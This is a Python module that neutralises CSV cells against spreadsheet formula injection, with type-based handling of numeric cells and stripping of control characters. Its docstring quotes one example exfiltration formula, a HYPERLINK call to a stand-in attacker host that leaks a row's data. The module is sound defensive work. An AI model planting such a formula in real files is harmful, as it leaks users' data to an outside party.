"""CSV that is safe to open in a spreadsheet: every CSV Partner Desk writes goes through here.

A partner opens our exports in Excel or LibreOffice. A cell whose text starts with `=`, `+`, `-` or
`@` (or a tab or carriage return, which some spreadsheets skip before looking for one) is read as a
formula there, so a customer named `=HYPERLINK("http://evil.example/?leak="&B2,"Open invoice")`
would leak the row to whoever clicks. OWASP's rule (CSV Injection) is applied to every text cell:
control characters are stripped, and a cell starting with one of those characters is prefixed with
a single quote, which the spreadsheet shows as text and does not display.

Numbers the product itself computes (money, quantities) must stay numbers a spreadsheet can add up,
`-12.50` included. So the rule depends on the cell's Python type, not on its text:

- `Decimal` and `int` (not `bool`) cells are *numeric*: written as plain decimal notation and left
  alone, negative sign and all. Write money as `Decimal` (not as a string) to keep it a number.
  A non-finite `Decimal` (NaN, Infinity) is no amount and is treated as text.
- everything else is *text*: `None` is the empty cell, other values are `str()`-ed, then neutralised.
  Text that merely looks like a number (`"-12.50"`) is still prefixed: text came from someone, and
  only the product knows which of its columns are amounts.

Which control characters go: C0 (U+0000–U+001F) except tab, line feed and carriage return, then DEL
(U+007F) and C1 (U+0080–U+009F). Tab, LF and CR inside a cell are kept because the csv module quotes
such a cell and a multi-line description is legitimate; at the start of a cell they are neutralised.
Stripping happens before the leading-character check, so `"\\a=1+1"` cannot slip a formula past it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""Characters that make a spreadsheet read a cell as a formula when the cell starts with them."""

_STRIPPED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_ANY_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")


def is_numeric(value: Any) -> bool:
    """Whether a cell is an amount or count the product wrote as a number (kept as a number)."""
    if isinstance(value, bool):
        return False
    if isinstance(value, int):
        return True
    return isinstance(value, Decimal) and value.is_finite()


def strip_control_characters(text: str) -> str:
    """The text without C0 (but tab, LF and CR), DEL and C1 control characters."""
    return _STRIPPED.sub("", text)


def has_control_characters(text: str) -> bool:
    """Whether a name holds any control character at all (tab and line breaks included).

    Names (companies, contacts, products, SKUs) are one line of printable text, so input validation
    refuses all of them, where export only strips those a multi-line cell cannot hold.
    """
    return _ANY_CONTROL.search(text) is not None


def first_control_character(text: str, *, allow: str = "") -> str | None:
    """The first control character of `text` not in `allow` (tab, LF and CR for a description), or None."""
    for match in _ANY_CONTROL.finditer(text):
        if match.group() not in allow:
            return match.group()
    return None


def control_character_problem(text: str, field: str, *, allow: str = "") -> str | None:
    """Why input validation refuses `text` for `field`, naming the field and the character; None if fine."""
    found = first_control_character(text, allow=allow)
    if found is None:
        return None
    kind = "line breaks, tabs or other control characters" if not allow else "control characters"
    return (f"{field} must not contain {kind} (found U+{ord(found):04X}): it is shown in pages and "
            "exported to spreadsheets.")


def neutralise(value: Any) -> str:
    """The text of one CSV cell, safe to open in a spreadsheet.

    `Decimal` and `int` cells are numeric and returned as plain decimal notation untouched (so
    `Decimal("-12.50")` stays `-12.50`, a number the spreadsheet can sum). Any other value is text:
    `None` is `""`; control characters (C0 except tab/LF/CR, DEL, C1) are stripped; then a cell
    starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'` (OWASP).
    """
    if is_numeric(value):
        return str(value) if isinstance(value, int) else format(value, "f")
    text = "" if value is None else strip_control_characters(str(value))
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def restore(cell: str) -> str:
    """The text `neutralise` was given, from a cell it wrote: the quote it added before a formula
    character is dropped (a file Partner Desk exported can be imported again unchanged)."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS):
        return cell[1:]
    return cell


class SafeWriter:
    """A `csv.writer` whose rows are neutralised cell by cell before they are written."""

    def __init__(self, stream: TextIO, **fmtparams: Any) -> None:
        fmtparams.setdefault("lineterminator", "\n")
        self._writer = csv.writer(stream, **fmtparams)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(stream: TextIO, **fmtparams: Any) -> SafeWriter:
    """A csv writer on `stream` (the csv module's format parameters; `\\n` line ends by default)
    whose `writerow`/`writerows` neutralise each cell (see `neutralise`)."""
    return SafeWriter(stream, **fmtparams)
